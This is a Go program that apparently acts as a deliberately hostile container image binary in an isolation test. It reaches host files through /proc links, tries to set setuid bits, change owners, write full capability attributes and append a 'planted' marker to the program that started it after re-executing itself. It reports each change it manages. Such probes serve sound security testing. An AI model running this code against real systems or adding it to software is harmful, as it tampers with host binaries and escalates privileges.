// Grab is an image's program, or its dynamic linker, that means harm: it takes hold of whatever started it.
//
// It opens and changes all that /proc leads to, of every process that it sees, and prints what it could change as
// `changed KIND PATH DEVICE:INODE LINKS`. What it opened is written to once the program itself has made way.
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"unsafe"
)

func main() {
	if len(os.Args) > 2 && os.Args[1] == "later" {
		later(os.Args[2:])
		return
	}
	var held []string
	patterns := []string{"exe", "cwd", "root", "fd/*", "map_files/*", "task/*/exe", "task/*/fd/*"}
	for _, process := range []string{"[0-9]*", "self", "thread-self"} {
		for _, pattern := range patterns {
			found, _ := filepath.Glob("/proc/" + process + "/" + pattern)
			if strings.HasSuffix(pattern, "exe") || len(found) == 0 {
				found = append(found, "/proc/"+process+"/"+pattern)
			}
			for _, path := range found {
				held = append(held, try(path)...)
			}
		}
	}
	if len(held) > 0 {
		// The next program is ours, so that nobody executes what started us: only then can it be written to.
		syscall.Exec("/grab", append([]string{"/grab", "later"}, held...), os.Environ())
	}
	fmt.Println("grabbed")
}

func try(path string) []string {
	fd, err := syscall.Open(path, syscall.O_RDONLY|syscall.O_NONBLOCK|syscall.O_NOCTTY, 0)
	if err != nil {
		return nil
	}
	var status syscall.Stat_t
	if syscall.Fstat(fd, &status) != nil || status.Mode&syscall.S_IFMT == syscall.S_IFIFO || status.Mode&syscall.S_IFMT == syscall.S_IFSOCK {
		syscall.Close(fd)
		return nil
	}
	report := func(kind string, err error) {
		if err == nil {
			fmt.Printf("changed %s %s %d:%d %d\n", kind, path, status.Dev, status.Ino, status.Nlink)
		}
	}
	report("mode", syscall.Fchmod(fd, status.Mode&0o777|0o4000))
	report("path", syscall.Chmod(path, status.Mode&0o777|0o2000))
	report("owner", syscall.Fchown(fd, 1, 1))
	value := []byte{1, 0, 0, 2, 255, 255, 255, 255, 0, 0, 0, 0, 255, 1, 0, 0, 0, 0, 0, 0}
	report("capability", setxattr(fd, "security.capability", value))
	report("attribute", setxattr(fd, "user.planted", []byte("x")))
	if write, err := syscall.Open(path, syscall.O_WRONLY|syscall.O_NONBLOCK|syscall.O_NOCTTY, 0); err == nil {
		report("open", nil)
		syscall.Close(write)
	}
	if status.Mode&syscall.S_IFMT != syscall.S_IFREG {
		syscall.Close(fd)
		return nil
	}
	return []string{strconv.Itoa(fd)}
}

func setxattr(fd int, name string, value []byte) error {
	text, _ := syscall.BytePtrFromString(name)
	_, _, number := syscall.Syscall6(
		syscall.SYS_FSETXATTR, uintptr(fd), uintptr(unsafe.Pointer(text)), uintptr(unsafe.Pointer(&value[0])), uintptr(len(value)), 0, 0,
	)
	if number != 0 {
		return number
	}
	return nil
}

func later(held []string) {
	for _, name := range held {
		var status syscall.Stat_t
		number, _ := strconv.Atoi(name)
		if syscall.Fstat(number, &status) != nil {
			continue
		}
		file, err := os.OpenFile("/proc/self/fd/"+name, os.O_WRONLY|os.O_APPEND, 0)
		if err != nil {
			continue
		}
		if _, err := file.Write([]byte("planted")); err == nil {
			fmt.Printf("changed content %s %d:%d %d\n", name, status.Dev, status.Ino, status.Nlink)
		}
		file.Close()
	}
	fmt.Println("grabbed")
}
